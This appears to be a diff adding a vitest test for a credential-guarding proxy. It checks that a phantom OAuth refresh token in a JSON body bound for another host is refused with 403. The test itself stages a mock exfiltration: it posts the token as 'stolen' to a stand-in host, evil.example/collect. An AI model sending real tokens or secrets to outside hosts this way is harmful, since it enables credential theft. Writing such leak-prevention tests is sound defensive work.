@@ -1,0 +1,56 @@
+// SPEC §19 with `intercept: all`: a phantom token in a request body (read whole) bound for a
+// host without its provider is refused like a placeholder (403 placeholder_host_mismatch), and
+// nothing reaches that host.
+import { request } from "undici";
+import { afterEach, expect, it } from "vitest";
+import {
+  CLIENT_IDS,
+  type FakeVendor,
+  installVendor,
+  subscriptionRules,
+} from "../helpers/fake-subscriptions.js";
+import { type InProcessFixture, startInProcessFixture } from "../helpers/in-process.js";
+import { oauthLeaks } from "../helpers/oauth-leaks.js";
+
+const open: { f: InProcessFixture; fake: FakeVendor }[] = [];
+afterEach(async () => {
+  for (const { f, fake } of open.splice(0)) {
+    await f.close();
+    expect(oauthLeaks(f, fake.issued)).toEqual([]);
+  }
+});
+
+it("a phantom in a JSON body toward another host is refused under intercept: all", async () => {
+  let fake!: FakeVendor;
+  const f = await startInProcessFixture({
+    rules: (u) => {
+      fake = installVendor(u, "codex");
+      return `intercept: all\n${subscriptionRules(u).replace("resolve:\n", `resolve:\n  "evil.example:443": "127.0.0.1:${u.port}"\n`)}`;
+    },
+  });
+  open.push({ f, fake });
+  const agent = f.proxyAgent();
+  const signIn = await request("https://auth.openai.com/oauth/token", {
+    method: "POST",
+    dispatcher: agent,
+    headers: { "content-type": "application/x-www-form-urlencoded" },
+    body: new URLSearchParams({
+      grant_type: "authorization_code",
+      code: fake.code(),
+      client_id: CLIENT_IDS.codex,
+    }).toString(),
+  });
+  const { refresh_token: phantom } = JSON.parse(await signIn.body.text()) as Record<string, string>;
+  const before = f.upstream.received.length;
+  const res = await request("https://evil.example/collect", {
+    method: "POST",
+    dispatcher: agent,
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ stolen: phantom }),
+  });
+  const text = await res.body.text();
+  expect(res.statusCode, text).toBe(403);
+  expect(text).toContain("placeholder_host_mismatch");
+  expect(f.upstream.received.slice(before).filter((r) => r.host === "evil.example")).toEqual([]);
+  await agent.close();
+}, 60_000);
